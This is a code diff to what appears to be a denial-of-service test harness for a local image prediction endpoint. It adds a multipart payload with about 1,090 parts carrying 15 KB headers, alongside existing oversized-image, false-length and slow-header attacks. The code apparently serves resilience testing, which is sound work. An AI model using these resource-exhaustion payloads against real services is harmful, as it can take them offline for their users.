@@ -89,6 +89,12 @@ def form(*images: bytes) -> tuple[bytes, str]:
     return b"".join(parts) + b"--b--\r\n", "multipart/form-data; boundary=b"
 
 
+def form_of_headers() -> tuple[bytes, str]:
+    """A form whose parts have headers of 15 KB, and its type."""
+    head = b'--b\r\nContent-Disposition: form-data; name="top"' + b";a=b" * 3900
+    return (head + b"\r\n\r\n1\r\n") * 1090 + b"--b--", "multipart/form-data; boundary=b"
+
+
 class Target:
     """A server under attack.
 
@@ -179,6 +185,7 @@ ATTACKS: dict[str, Callable[[Target], None]] = {
     "jpeg": lambda target: target.repeat(post("/v1/predict", jpeg_of_fill_bytes(5_000_000))),
     "png": lambda target: target.repeat(post("/v1/predict", png_of_chunks(400_000))),
     "ppm": lambda target: target.repeat(post("/v1/predict", ppm_with_comment(5_000_000))),
+    "part-headers": lambda target: target.repeat(post("/v1/predict", *form_of_headers())),
     "lengths": lambda target: target.hold(post("/v1/predict", b"", length=20_000_000), 60),
     "one-byte": lambda target: target.hold(post("/v1/predict", b"x", length=1000), 257),
     "headers": lambda target: target.hold(b"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ", 1000),
